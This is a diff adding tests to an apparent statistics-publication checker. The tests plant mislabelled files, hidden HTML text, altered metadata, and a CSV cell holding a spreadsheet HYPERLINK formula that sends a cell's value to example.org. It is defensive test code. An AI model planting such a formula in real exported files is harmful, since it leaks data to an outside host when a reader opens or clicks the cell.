@@ -288,3 +288,101 @@ def test_only_releases_about_the_same_units_are_combined_as_other_releases(pub, 
     assert f"attacked with the programme's other releases: {related}" in text
     assert f"not combined (other units or areas, or unreadable metadata: not this programme's releases): " \
            f"{other_authority}, {restructured}" in text
+
+
+# ------------------------------------------------------------------ files that are not what they say
+# (issue 24, a second corpus: each passed as "clean" before)
+def _first_html(pub: Path) -> Path:
+    return sorted(pub.rglob("*.html"))[0]
+
+
+def _restricted_csv(built) -> Path:
+    return sorted(Path(built.restricted_dir).rglob("*.csv"))[0]
+
+
+@pytest.mark.parametrize("plant", ["csv_named_png", "dot_file", "restricted_copy_renamed", "zip_named_pdf",
+                                   "text_named_xlsx", "binary_named_txt"])
+def test_a_file_that_is_not_what_its_name_says_is_a_finding(built, pub, plant):
+    src = _restricted_csv(built)
+    if plant == "csv_named_png":  # a .png was never opened: restricted rows passed unread
+        shutil.copy(src, pub / "figures" / "extra.png")
+        where = "figures/extra.png"
+    elif plant == "dot_file":
+        (pub / "csv" / ".notes.csv").write_text("a,b\nx,y\n", encoding="utf-8")
+        where = "csv/.notes.csv"
+    elif plant == "restricted_copy_renamed":
+        shutil.copy(src, pub / "csv" / "T99.csv")
+        where = "csv/T99.csv"
+    elif plant == "zip_named_pdf":
+        shutil.copy(next(pub.rglob("*.xlsx")), pub / "extra.pdf")
+        where = "extra.pdf"
+    elif plant == "text_named_xlsx":
+        (pub / "extra.xlsx").write_text("area,n\nNorth,3\n", encoding="utf-8")
+        where = "extra.xlsx"
+    else:
+        (pub / "notes.txt").write_bytes(b"\x00\x01binary\x00")
+        where = "notes.txt"
+    f = check_publication(pub, restricted_dir=built.restricted_dir, threshold=5, width=3)
+    assert (where, "unexpected_file") in [(x.file, x.kind) for x in f], [str(x) for x in f]
+
+
+def test_formula_text_in_a_published_csv_is_a_finding(pub):
+    t = sorted((pub / "csv").glob("T*.csv"))[0]
+    lines = t.read_text(encoding="utf-8").splitlines()
+    lines[1] = '"=HYPERLINK(""http://example.org/?""&B2,""x"")",' + lines[1].split(",", 1)[1]
+    t.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    f = check_publication(pub, threshold=5, width=3)
+    assert [(x.file, x.location, x.kind) for x in f if x.kind == "unexpected_file"] == \
+        [(f"csv/{t.name}", "line 2", "unexpected_file")]
+    assert "formula" in next(x.detail for x in f if x.kind == "unexpected_file")
+
+
+@pytest.mark.parametrize("edit,says", [
+    (lambda t: t.replace("</body>", "<!-- 3 -->\n</body>"), "HTML comment"),
+    (lambda t: t.replace("<td", '<td data-n="2"', 1), "data-n"),
+    (lambda t: t.replace("</main>", '<span hidden>2</span></main>'), "hidden"),
+    (lambda t: t.replace("</main>", '<p style="display: none">2</p></main>'), "display: none"),
+])
+def test_html_text_no_reader_sees_is_a_finding(pub, edit, says):
+    h = _first_html(pub)
+    h.write_text(edit(h.read_text(encoding="utf-8")), encoding="utf-8")
+    f = [x for x in check_publication(pub, threshold=5, width=3) if x.kind == "unexpected_file"]
+    assert len(f) == 1 and f[0].file == h.relative_to(pub).as_posix() and says in f[0].detail
+
+
+def test_metadata_without_its_disclosure_values_is_a_finding(pub):
+    m = pub / "csv" / "metadata.json"
+    meta = json.loads(m.read_text(encoding="utf-8"))
+    meta.pop("disclosure")
+    m.write_text(json.dumps(meta), encoding="utf-8")
+    f = check_publication(pub, threshold=5, width=3)
+    assert {(x.location, x.kind) for x in f} >= {("disclosure.threshold", "metadata"),
+                                                  ("disclosure.protection_width", "metadata")}
+
+
+def test_metadata_naming_another_authority_than_the_cycles_is_a_finding(pub):
+    # the authority's label is read as a total of every record (its small counts are not
+    # findings): an edited one could exempt a unit's row
+    m = pub / "csv" / "metadata.json"
+    meta = json.loads(m.read_text(encoding="utf-8"))
+    own = meta["universe"]["authority"]
+    assert check_publication(pub, threshold=5, width=3, authority=own) == []
+    meta["universe"]["authority"] = "Elsewhere"
+    m.write_text(json.dumps(meta), encoding="utf-8")
+    f = check_publication(pub, threshold=5, width=3, authority=own)
+    assert [(x.location, x.kind) for x in f if x.kind == "metadata"] == [("universe.authority", "metadata")]
+    assert "'Elsewhere'" in f[0].detail and repr(own) in f[0].detail
+
+
+def test_a_release_of_another_authority_with_the_same_units_is_not_combined(pub):
+    # the attack combined siblings by their units alone: two authorities with units of the
+    # same names and areas were read as one programme
+    from kentaudit.publication.check.folder import sibling_releases
+    out = pub.parents[1]
+    same_units = out / "2012" / "publish"
+    shutil.copytree(pub, same_units)
+    m = same_units / "csv" / "metadata.json"
+    meta = json.loads(m.read_text(encoding="utf-8"))
+    meta["universe"]["authority"] = "Elsewhere"
+    m.write_text(json.dumps(meta), encoding="utf-8")
+    assert sibling_releases(pub) == ([], [same_units])
